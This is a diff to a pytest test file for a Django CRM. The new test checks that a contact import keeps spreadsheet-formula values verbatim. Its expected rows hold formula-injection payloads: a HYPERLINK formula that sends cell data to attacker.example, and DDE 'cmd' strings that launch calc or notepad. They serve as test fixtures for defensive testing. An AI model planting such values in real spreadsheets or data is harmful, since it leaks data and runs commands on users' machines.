@@ -8,6 +8,7 @@ from pathlib import Path
 
 import openpyxl
 import pytest
+from django.core.management import call_command
 from django.urls import reverse
 
 from accord.audit.models import AuditEntry
@@ -65,15 +66,40 @@ def formula_contacts(org, admin, in_org):
                                    label="Note", field_type="text")
         for row in rows:
             company = services.create_company(org, admin.user, data={"name": row["company"]})
-            contact = services.create_contact(org, admin.user, data={
+            services.create_contact(org, admin.user, data={
                 "first_name": row["first_name"], "last_name": row["last_name"],
                 "company": company.pk, "phones": [row["phone"]],
                 "custom_fields": {"note": row["note"]},
             })
-            if row["note"].startswith("\t"):
-                # Form and API input is trimmed; an import keeps the TAB, as here.
-                Contact.objects.filter(pk=contact.pk).update(custom_fields={"note": row["note"]})
     return rows
+
+
+def test_the_case_imports_verbatim(org, admin, in_org, tmp_path):
+    """Values a spreadsheet would take for formulas are text to the CRM: kept as given,
+    a leading TAB included."""
+    mapping = tmp_path / "mapping.json"
+    mapping.write_text(json.dumps({"first_name": "first_name", "last_name": "last_name",
+                                   "company": "company", "phone": "phone", "note": "cf.note"}),
+                       encoding="utf-8")
+    with in_org(org):
+        CustomField.objects.create(organization=org, entity="contact", key="note",
+                                   label="Note", field_type="text")
+    err = io.StringIO()
+    call_command("import", str(FORMULA_CASE), org=org.slug, entity="contact",
+                 mapping=str(mapping), stdout=io.StringIO(), stderr=err)
+
+    with in_org(org):
+        stored = sorted((contact.first_name, contact.last_name, contact.company.name,
+                         contact.phones.get().raw, contact.custom_fields.get("note", ""))
+                        for contact in Contact.objects.select_related("company"))
+    assert err.getvalue() == ""
+    assert stored == sorted([
+        ('=HYPERLINK("http://attacker.example/x?d="&A2;"Click")', "Fenn", "Hollow Oak Ltd",
+         "+1 555 0100", "ok"),
+        ("Dana", "Kirsch", "@SUM(1+1)", "+44 20 7946 0102", "-10% agreed"),
+        ("Omar", "Haddad", "Tidewater Co", "0044 20 7946 0103", "\tcmd|' /C calc'!A0"),
+        ("Rosa", "Lindqvist", "+cmd|' /C notepad'!A0", "+46 8 123 456", "=1+2"),
+    ])
 
 
 FORMULA_CELLS = [  # (first name, last name, company, phone, note) as expected.md gives them
